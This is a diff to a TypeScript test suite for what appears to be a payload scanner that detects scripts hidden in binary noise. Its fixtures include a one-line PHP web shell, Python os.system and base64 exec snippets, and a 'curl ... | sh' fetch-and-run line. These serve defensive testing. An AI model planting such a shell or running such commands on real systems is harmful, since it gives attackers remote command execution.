@@ -51,6 +51,15 @@ function tarHeader(name: string, magic: string): Uint8Array {
   return block;
 }
 
+const SCRIPTS: Record<string, string> = {
+  PHP: '<?php system($_GET["c"]); ?>',
+  batch: '@echo off\r\ncall inert.bat\r\n',
+  'Python that imports': 'import os\nos.system("echo inert")\n',
+  'Python in one line': "import os,sys;os.system('echo inert')\n",
+  'Python without a statement': "__import__('os').system('echo inert')",
+  'Python that runs code': "exec(base64.b64decode('cHJpbnQoMSk='))",
+};
+
 const HEADS: Record<string, Uint8Array> = {
   ...Object.fromEntries(Object.entries(EXECUTABLE_HEADS).map(([kind, head]) => [kind, head()])),
   zip: zipLocalHeader('a.txt', ascii('text')),
@@ -137,7 +146,7 @@ describe('payload validators', () => {
   });
 
   it.each([
-    ['batch', '@echo off\r\nrem inert\r\n'],
+    ['batch', 'setlocal\r\nrem inert\r\n'],
     ['PowerShell', '$client = New-Object Net.WebClient\n'],
     ['Python', 'import os\nprint("inert")\n'],
     ['shell', 'curl http://host.invalid/x | sh\n'],
@@ -403,5 +412,34 @@ describe('payloads in ranges', () => {
       payload: 'pe',
       offset: 5000,
     });
+  });
+});
+
+describe('scripts without a first line of their own', () => {
+  const sweep = (bytes: Uint8Array) => {
+    const access = new MemoryAccess(bytes);
+    const { hits } = hashAndSweep(access, { hash: false });
+    return payloadsIn(access, hits, [{ start: 0, end: bytes.length, where: 'opaque' }]).payloads;
+  };
+  it.each(Object.entries(SCRIPTS))('find %s in noise at any offset', (_, text) => {
+    for (const before of [301, 1024]) {
+      const bytes = Buffer.concat([noise(before), ascii(`\0${text}`), noise(99, 5)]);
+      expect(sweep(bytes)).toMatchObject([{ payload: 'script', offset: before + 1 }]);
+    }
+  });
+
+  it.each([
+    'import os and other modules of the standard library are imported first',
+    'import os\nimport numpy as np\nx = np.zeros(3)\n',
+    '<?php echo 1; ?>',
+    'exec(uted) in order',
+    '@echo',
+  ])('leave %j alone', (text) => {
+    expect(sweep(Buffer.concat([noise(301), ascii(`\0${text}`), noise(99, 5)]))).toEqual([]);
+  });
+
+  it('are quoted by text before them', () => {
+    const text = `${'A page about Python. '.repeat(5)}\nimport os\nos.system("echo inert")\n`;
+    expect(sweep(ascii(text)).filter(({ offset }) => offset > 0)).toEqual([]);
   });
 });
